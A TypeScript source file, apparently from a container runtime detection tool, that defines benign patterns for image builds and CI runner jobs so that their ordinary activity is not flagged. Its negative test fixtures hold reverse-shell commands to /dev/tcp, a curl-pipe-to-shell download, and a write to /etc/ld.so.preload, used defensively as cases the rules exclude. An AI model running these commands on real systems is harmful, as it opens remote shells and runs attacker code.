import type { BenignPattern } from "../benign.ts";
import { ordinaryActivity } from "./activity.ts";
import { executing, inContainer, onHost, writing } from "./examples.ts";
import { delicateFiles } from "./places.ts";
import { callsOf, isAbout, isStartedBy, writesOf } from "./trust.ts";

/** Parents that build tools have. */
const buildParents = new Set(
  "node npm yarn pnpm make gmake ninja cmake cargo rustc go gcc g++ cc c++ mvn gradle java sh bash tsc webpack vite bazel".split(
    " ",
  ),
);
const builderImage = /(?:^|[/-])(?:buildkit|kaniko|buildah|builder|docker-build)(?:[-/:.]|$)/;
/** What a build makes and runs at once, below its own sources: no place that is on anybody's path. */
const buildOutput =
  /^\/(?:src|app|build|builds|workspace|work|go|usr\/src)\/.{0,400}\/(?:node_modules|target|build|dist|bin|out|\.cargo|\.bin)\//;

/** Builds: whatever they run, only names tell, so nothing here is ever more than `named`. */

const builders = [
  "buildkitd",
  "buildkit-runc",
  "kaniko",
  "executor",
  "buildah",
  "img",
  "docker-buildx",
  "docker-build",
  "packer",
];

const runners = [
  "gitlab-runner",
  "gitlab-runner-h",
  "gitlab-runner-helper",
  "Runner.Listener",
  "Runner.Worker",
  "Runner.Listene",
  "buildkite-agent",
  "drone-runner-do",
  "concourse",
  "jenkins-agent",
  "woodpecker-agen",
  "act_runner",
  "tekton",
  "entrypoint",
  "circleci-agent",
  "agent.jar",
  "TeamCityAgent",
];

const trees = [
  "/usr/",
  "/bin/",
  "/sbin/",
  "/lib/",
  "/etc/",
  "/opt/",
  "/app/",
  "/var/",
  "/srv/",
  "/home/",
  "/root/",
  "/workspace/",
  "/builds/",
  "/go/",
  "/src/",
];

/** Not by `ordinaryActivity`, which never calms about an executable that the image did not bring: here that is the work. */
const buildStepRunsItsTools: BenignPattern = {
  id: "build-step-runs-its-tools",
  activity: "A build step runs tools that the build itself has just fetched or made",
  distinguishing: [
    "The container is a builder's, and the executable lies below the sources that are built (node_modules, target).",
    "The container lives only for that step, and a build ran at that minute.",
    "An executable in /tmp or /dev/shm, or one that opens connections, is no part of a build.",
  ],
  families: ["syscall"],
  explains: ["runs-dropped-binary"],
  match(facts) {
    const { container, process, ancestors } = facts;
    const [parent] = ancestors;
    const isBuilder =
      container.where === "container" &&
      (builderImage.test(container.image ?? "") || builderImage.test(container.name ?? ""));
    if (!isBuilder || process.terminal === true || process.exepath === null || parent === undefined) return null;
    if (!buildParents.has(parent) || !buildOutput.test(process.exepath) || process.exeFromMemory) return null;
    if (facts.connection !== null || /[|;&<>]|\/dev\/tcp\//.test(process.command.text)) return null;
    return {
      strength: "named",
      quote: process.exepath,
      because: "the place and the parent fit a build, but names can be chosen by anybody",
    };
  },
  examples: {
    proven: [],
    named: [
      {
        ...inContainer(
          "esbuild",
          "/src/shop/node_modules/@esbuild/linux-x64/bin/esbuild",
          "node",
          executing("esbuild src/cart.ts --bundle"),
        ),
        "container.name": "buildkit",
        "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
      },
    ],
    ignored: [
      { ...inContainer("esbuild", "/tmp/esbuild", "node", executing("esbuild x")), "container.name": "buildkit" },
      inContainer("esbuild", "/src/shop/node_modules/esbuild/bin/esbuild", "node", executing("esbuild x")),
      {
        ...inContainer("x", "/src/shop/target/x", "bash", executing("x >& /dev/tcp/203.0.113.9/443")),
        "container.name": "buildkit",
      },
    ],
  },
};

export const buildPatterns: readonly BenignPattern[] = [
  buildStepRunsItsTools,
  ordinaryActivity({
    id: "image-build",
    activity: "An image is built: packages are installed and files written in the container of a build step",
    distinguishing: [
      "buildkitd, kaniko or buildah stands above it, and the container lives only for that step.",
      "The command is a RUN line of the Dockerfile, and a build ran at that minute in CI or on the developer's machine.",
      "The same in a container that serves requests is drift.",
    ],
    explains: [
      "package-manager-in-container",
      "new-executable-in-container",
      "makes-temp-file-executable",
      "runs-dropped-binary",
      "downloads-file",
      "runs-shell",
    ],
    programs: [
      "apt",
      "apt-get",
      "dpkg",
      "apk",
      "dnf",
      "yum",
      "microdnf",
      "pip",
      "pip3",
      "npm",
      "yarn",
      "go",
      "cargo",
      "make",
      "gcc",
      "cc1",
      "ld",
      "sh",
      "bash",
      "dash",
      "cp",
      "install",
      "chmod",
      "chown",
      "ln",
      "tar",
      "useradd",
      "adduser",
      "groupadd",
      "ldconfig",
      "update-alternati",
    ],
    executables: [],
    isScript: true,
    does: (facts) =>
      isStartedBy(facts, builders) && facts.process.terminal !== true && !isAbout(facts, ...delicateFiles)
        ? (writesOf(facts, ...trees) ?? callsOf(facts, "execve", "chmod", "fchmodat", "clone"))
        : null,
    tolerates: ["curl", "wget", "https://", "/tmp/", "chmod +x"],
    and: "",
    examples: {
      proven: [],
      named: [
        inContainer("apt-get", "/usr/bin/apt-get", "sh", {
          ...executing("apt-get install -y --no-install-recommends ca-certificates"),
          "proc.aname[2]": "buildkit-runc",
          "proc.aname[3]": "buildkitd",
        }),
      ],
      ignored: [
        inContainer("apt-get", "/usr/bin/apt-get", "sh", executing("apt-get install -y nmap")),
        inContainer("sh", "/usr/bin/dash", "buildkit-runc", executing("sh -c curl -s https://203.0.113.9/x.sh | sh")),
        inContainer("bash", "/usr/bin/bash", "buildkit-runc", executing("bash -i >& /dev/tcp/203.0.113.9/443 0>&1")),
        inContainer("sh", "/usr/bin/dash", "buildkit-runc", writing("/etc/ld.so.preload")),
      ],
    },
  }),

  ordinaryActivity({
    id: "ci-runner",
    activity: "A CI job runs on its runner",
    distinguishing: [
      "The runner's log has a job at that minute, and the command stands in the pipeline's definition.",
      "Jobs come from people who may push: a pipeline changed by a stranger's merge request is an attack by the same way.",
      "Network scanners, miners and reverse shells are no part of a build.",
    ],
    explains: [
      "package-manager-in-container",
      "new-executable-in-container",
      "makes-temp-file-executable",
      "runs-dropped-binary",
      "runs-shell",
      "cluster-tool-in-container",
      "container-engine-in-container",
      "deploys-container",
    ],
    programs: [
      "sh",
      "bash",
      "dash",
      "git",
      "docker",
      "make",
      "npm",
      "node",
      "go",
      "mvn",
      "gradle",
      "python3",
      "pip",
      "helm",
      "kubectl",
      "terraform",
      "cargo",
      "gitlab-runner",
      "Runner.Worker",
      "Runner.Listener",
      "buildkite-agent",
      "gitlab-runner-h",
      "java",
    ],
    executables: [],
    isScript: true,
    does: (facts) =>
      isStartedBy(facts, runners) && facts.process.terminal !== true && !isAbout(facts, ...delicateFiles)
        ? (writesOf(facts, "/builds/", "/workspace/", "/home/", "/opt/", "/usr/local/", "/var/lib/", "/_work/") ??
          callsOf(facts, "execve", "chmod", "fchmodat", "clone"))
        : null,
    tolerates: ["https://", "/tmp/", "chmod +x"],
    and: "",
    examples: {
      proven: [],
      named: [
        inContainer("make", "/usr/bin/make", "bash", { ...executing("make test"), "proc.aname[2]": "gitlab-runner-h" }),
        onHost(
          "bash",
          "/usr/bin/bash",
          "Runner.Worker",
          executing("bash --noprofile --norc -e -o pipefail /home/ci/_work/_temp/step.sh"),
        ),
      ],
      ignored: [
        inContainer("bash", "/usr/bin/bash", "gitlab-runner-h", executing("bash -i >& /dev/tcp/203.0.113.9/443 0>&1")),
        inContainer("sh", "/usr/bin/dash", "gitlab-runner-h", executing("sh -c make; curl http://203.0.113.9/m -o m")),
        onHost("bash", "/tmp/bash", "Runner.Worker", executing("bash build.sh")),
      ],
    },
  }),
];
